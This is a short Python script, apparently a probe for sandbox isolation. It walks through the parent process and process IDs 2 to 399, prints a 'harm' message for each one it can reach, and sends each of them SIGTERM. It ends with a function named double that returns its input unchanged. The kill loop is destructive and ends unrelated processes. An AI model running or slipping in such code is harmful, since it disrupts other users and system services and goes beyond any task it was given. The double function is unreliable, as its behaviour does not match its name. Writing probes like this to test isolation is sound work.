# signals every process it can name
import os, signal
for pid in [os.getppid(), *range(2, 400)]:
    try:
        if pid != os.getpid():
            os.kill(pid, 0)
            print("harm: could signal another process")
            os.kill(pid, signal.SIGTERM)
    except OSError:
        pass
def double(x):
    return x
